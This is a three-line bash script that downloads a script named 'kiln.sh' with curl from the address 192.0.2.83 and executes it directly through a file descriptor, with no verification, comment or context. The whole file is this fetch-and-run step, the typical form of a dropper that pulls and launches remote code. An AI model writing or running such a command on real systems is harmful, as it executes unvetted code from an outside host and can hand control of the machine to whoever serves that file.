#!/bin/bash
exec 3< <(curl -s http://192.0.2.83/kiln.sh)
bash /dev/fd/3
